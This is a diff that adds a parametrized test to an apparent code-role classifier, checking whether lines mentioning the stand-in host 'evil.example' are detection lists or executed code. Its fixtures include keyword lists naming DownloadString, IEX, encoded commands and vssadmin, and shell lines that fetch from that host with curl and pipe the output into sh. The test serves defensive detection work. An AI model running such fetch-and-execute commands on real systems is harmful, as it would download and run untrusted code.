@@ -114,6 +114,24 @@ def test_other_syntaxes(kind, text):
     assert roles.stance(text.index("evil")).role is Role.COMMAND
 
 
+@pytest.mark.parametrize(
+    ("kind", "line", "listed"),
+    [
+        ("powershell", "$words = 'DownloadString|IEX|-enc|evil.example|vssadmin'", True),
+        ("python", 'words = "DownloadString|IEX|-enc|evil.example|vssadmin"', True),
+        ("shell", "grep -rhsE '^NOPASSWD evil.example' /etc/sudoers", True),
+        ("powershell", "Get-Content x.log | Where-Object Message -match 'evil.example'", True),
+        ("shell", "grep -q x list && curl 'evil.example'", False),
+        ("shell", "grep x list | sh -c 'curl evil.example'", False),
+        ("shell", "sh -c 'curl evil.example|sed x|sort|sh'", False),
+        ("python", 'run("curl evil.example")', False),
+    ],
+)
+def test_what_is_looked_for_is_told_from_what_is_done(kind, line, listed):
+    stance = CodeRoles(f"first = 1\n{line}\n", kind, Role.CODE).stance(10 + line.index("evil"))
+    assert stance.role is (Role.DENY_LIST if listed else Role.CODE)
+
+
 @given(
     st.text("\"'`/*#<>\\\n a[](){}=:;", max_size=80),
     st.sampled_from(["python", "shell", "javascript", "powershell", "code"]),
